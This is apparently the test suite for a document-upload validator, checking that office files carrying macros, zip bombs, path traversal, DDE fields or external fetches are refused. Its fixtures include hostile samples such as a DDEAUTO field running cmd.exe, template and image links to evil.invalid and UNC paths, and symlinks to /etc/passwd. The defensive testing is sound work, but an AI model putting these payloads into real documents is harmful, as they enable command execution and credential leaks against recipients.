"""Documents of office programs: what may be kept, and what is packed oddly, runs something or fetches something."""

from __future__ import annotations

import zipfile
from contextlib import nullcontext
from threading import Thread

import pytest

from coaching.lib import office_files
from coaching.lib.uploads import judge
from tests.lib import files
from tests.lib.files import refused

pytestmark = pytest.mark.usefixtures("in_english")


def test_a_document_that_unpacks_to_a_thousand_times_its_size_is_refused() -> None:
    bomb = files.office(more={"word/media/a.xml": b" " * 20_000_000})
    assert len(bomb) < 25_000
    assert "packed in a way" in refused("a.docx", bomb)


@pytest.mark.parametrize("name", ["../x", "/etc/x", "a\\..\\x", "C:x"])
def test_a_path_that_leads_out_of_a_document_is_refused(name: str) -> None:
    base = files.office(more={"y" * len(name): "x"})
    assert "packed in a way" in refused("a.docx", base.replace(b"y" * len(name), name.encode()))


def test_a_link_of_the_file_system_in_a_document_is_refused() -> None:
    out = files.BytesIO(files.office())
    link = zipfile.ZipInfo("word/link")
    link.external_attr = 0o120777 << 16
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(link, "/etc/passwd")
    assert "packed in a way" in refused("a.docx", out.getvalue())


def test_parts_on_top_of_each_other_are_refused() -> None:
    out = files.BytesIO(files.office(more={"word/a": bytes(range(256)) * 40}))
    with zipfile.ZipFile(out, "a") as archive:
        archive.filelist += [archive.filelist[-1]] * 20
        archive._didModify = True  # type: ignore[attr-defined]
    assert "packed in a way" in refused("a.docx", out.getvalue())


def test_a_hundred_thousand_parts_are_refused() -> None:
    assert "packed in a way" in refused("a.docx", files.many_parts(100_000))


@pytest.mark.parametrize(
    "part",
    ["word/vbaProject.bin", "word/VBAPROJECT.BIN", "xl/macrosheets/sheet1.xml", "word/activeX/activeX1.bin"],
)
def test_macros_are_refused(part: str) -> None:
    assert "macros" in refused("a.docx", files.office(more={part: "x"}))


def test_macros_under_another_name_are_refused() -> None:
    types = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    assert "macros" in refused("a.docx", files.office(types=types))
    macro = "application/vnd.ms-word.document.macroEnabled.main+xml"
    assert "macros" in refused("a.docx", files.office(said=macro))
    assert "macros" in refused("a.odt", files.odt(more={"Basic/Standard/Module1.xml": "x"}))
    event = '<script:event-listener xlink:href="vnd.sun.star.script:a?language=Basic"/>'
    assert "macros" in refused("a.odt", files.odt(event))


@pytest.mark.parametrize("kind", ["attachedTemplate", "image", "oleObject", "frame", "externalLinkPath"])
@pytest.mark.parametrize("target", ["http://evil.invalid/x", "file:///\\\\evil.invalid\\x.dotm"])
def test_a_document_that_fetches_is_refused(kind: str, target: str) -> None:
    part = "word/_rels/settings.xml.rels"
    assert "fetches" in refused("a.docx", files.office(more={part: files.relations(kind, target)}))


@pytest.mark.parametrize(
    "link", ["http://evil.invalid/x.png", "//evil.invalid/x", "\\\\evil.invalid\\x", " file:///etc/passwd"]
)
def test_an_odt_that_fetches_is_refused(link: str) -> None:
    assert "fetches" in refused("a.odt", files.odt(f'<draw:image xlink:href="{link}"/>'))


def test_xml_that_grows_is_refused() -> None:
    bomb = '<!DOCTYPE a [<!ENTITY b "bbbb">]><Relationships>&b;</Relationships>'
    assert "can't be read" in refused("a.docx", files.office(more={"word/_rels/document.xml.rels": bomb}))


def test_a_template_and_a_broken_document_are_refused() -> None:
    template = f"{files.PACKAGE}.wordprocessingml.template.main+xml"
    assert "can't be read" in refused("a.docx", files.office(said=template))
    assert "can't be read" in refused("a.docx", files.office()[:-30])


def field(*pieces: str) -> str:
    """A field in a footer, its instruction in ``pieces``."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return f'<w:ftr xmlns:w="urn:w">{begin}{runs}{end}</w:ftr>'


@pytest.mark.parametrize(
    "text",
    [
        field(' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" '),
        field(" d", "dE", "auto c:\\cmd.exe"),
        field(' DDE "excel" "a" "b"'),
        field(' INCLUDEPICTURE "http://evil.invalid/x.png" \\d '),
        field(' INCLUDEPICTURE "\\\\evil.invalid\\x" '),
        field(" INCLUDETEXT x.docx "),
        field(" LINK Excel.Sheet.8 x.xlsx "),
        field("</w:instrText>" + field(" QUOTE 68 68 69 ") + "<w:instrText>"),
        '<x:ftr xmlns:x="urn:w"><x:fldSimple x:instr="ddeauto c:\\cmd.exe"/></x:ftr>',
        '<ftr xmlns:v="urn:v"><v:imagedata src="http://evil.invalid/x.png"/></ftr>',
    ],
)
@pytest.mark.parametrize("coding", ["utf-8", "utf-16"])
@pytest.mark.parametrize("part", ["word/footer1.xml", "word/media/a.png"])
def test_a_field_that_runs_or_fetches_is_refused(text: str, coding: str, part: str) -> None:
    assert "fetches" in refused("a.docx", files.office(more={part: text.encode(coding)}))


@pytest.mark.parametrize(
    "text",
    [
        field(" PAGE "),
        field(' HYPERLINK "https://example.org/" '),
        field(' INCLUDEPICTURE "/var/folders/x/image001.png" \\* MERGEFORMATINET '),
        field(" REF ddeauto "),
        "<w:ftr xmlns:w='urn:w'><w:t>{ DDEAUTO cmd.exe }</w:t></w:ftr>",
    ],
)
def test_an_everyday_field_is_fine(text: str) -> None:
    assert judge("a.docx", files.office(more={"word/footer1.xml": text})).kind == "docx"


@pytest.mark.parametrize(
    ("part", "says"),
    [
        ("word/embeddings/oleObject1.bin", "another file or a program"),
        ("xl/embeddings/OLEOBJECT1.BIN", "another file or a program"),
        ("xl/externalLinks/externalLink1.xml", "fetches"),
        ("xl/connections.xml", "fetches"),
    ],
)
def test_objects_and_links_to_other_files_are_refused(part: str, says: str) -> None:
    assert says in refused("a.xlsx", files.office("xlsx", more={part: "<x/>"}))


@pytest.mark.parametrize(
    ("kind", "says"),
    [
        ("oleObject", "another file or a program"),
        ("control", "another file or a program"),
        ("externalLink", "fetches"),
        ("aFChunk", "fetches"),
    ],
)
def test_so_they_are_under_another_name(kind: str, says: str) -> None:
    links = files.relations(kind, "media/a.png", mode="Internal")
    assert says in refused("a.xlsx", files.office("xlsx", more={"xl/_rels/workbook.xml.rels": links}))
    types = f'<Override PartName="/a" ContentType="application/vnd.x.{kind}+xml"/>'
    if kind in ("oleObject", "externalLink"):
        assert says in refused("a.xlsx", files.office("xlsx", types=types))


def test_a_sheet_in_a_chart_is_fine() -> None:
    more: dict[str, bytes | str] = {
        "ppt/embeddings/Microsoft_Excel_Sheet1.xlsx": files.office("xlsx"),
        "ppt/charts/_rels/chart1.xml.rels": files.relations(
            "package", "../embeddings/a.xlsx", mode="Internal"
        ),
    }
    assert judge("a.pptx", files.office("pptx", more=more)).kind == "pptx"


@pytest.mark.parametrize("mode", [" External ", "EXTERNAL", "&#10;External", "else"])
def test_outside_is_all_that_is_not_inside(mode: str) -> None:
    links = files.relations("image", "http://evil.invalid/x", mode=mode)
    assert "fetches" in refused("a.docx", files.office(more={"word/_rels/document.xml.rels": links}))


def test_two_parts_of_one_name_are_refused() -> None:
    """One program reads the first of them, another the last."""
    for name in ("word/document.xml", "WORD/Document.xml"):
        out = files.BytesIO(files.office())
        warned = pytest.warns(UserWarning) if name.islower() else nullcontext()
        with warned, zipfile.ZipFile(out, "a") as archive:
            archive.writestr(name, "<other/>")
        assert "packed in a way" in refused("a.docx", out.getvalue())


@pytest.mark.parametrize(
    ("content", "says"),
    [
        ('<office:dde-source office:dde-application="soffice"/>', "fetches"),
        ('<text:dde-connection-decl office:dde-topic="x"/>', "fetches"),
        ('<draw:object-ole xlink:href="./Object 1"/>', "another file or a program"),
        ('<draw:object xlink:href="./Iets"/>', "another file or a program"),
        ('<draw:floating-frame xlink:href="./x"/>', "another file or a program"),
        ('<office:script script:language="Basic"/>', "macros"),
        ('<draw:image a:href="Pictures/1.png" xlink:href="http://evil.invalid/x"/>', "fetches"),
    ],
)
def test_an_odt_that_runs_or_holds_something_is_refused(content: str, says: str) -> None:
    assert says in refused("a.odt", files.odt(content))


@pytest.mark.parametrize("part", ["Object 1/content.xml", "Object 1/x", "iets/content.xml"])
def test_a_document_in_an_odt_is_refused(part: str) -> None:
    assert "another file or a program" in refused("a.odt", files.odt(more={part: "<x/>"}))


def test_documents_are_looked_through_one_at_a_time() -> None:
    with office_files.ONE_AT_A_TIME:
        other = Thread(target=judge, args=("a.docx", files.office()))
        other.start()
        other.join(0.3)
        assert other.is_alive()
    other.join(20)
    assert not other.is_alive()
